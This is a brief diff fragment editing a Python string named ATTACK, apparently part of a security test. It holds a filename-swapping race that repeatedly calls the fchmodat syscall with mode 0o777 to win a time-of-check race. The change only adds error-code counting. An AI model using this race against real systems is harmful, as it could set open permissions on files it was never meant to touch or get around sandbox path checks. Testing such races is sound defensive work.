@@ -44,12 +44,15 @@ ATTACK = """
             ctypes.memmove(buf, b"in.txt\\0", 7)
             ctypes.memmove(buf, b"\\0", 1)
     t = threading.Thread(target=flip); t.start()
-    won = 0
+    won, errs = 0, {}
     for _ in range(20000):
         if libc.syscall(268, -100, buf, 0o777, 0) == 0:
             won += 1
+        else:
+            e = ctypes.get_errno()
+            errs[e] = errs.get(e, 0) + 1
     stop.append(1); t.join()
-    print("race won", won, flush=True)
+    print("race won", won, "errnos", sorted(errs.items()), flush=True)
     """
 
 
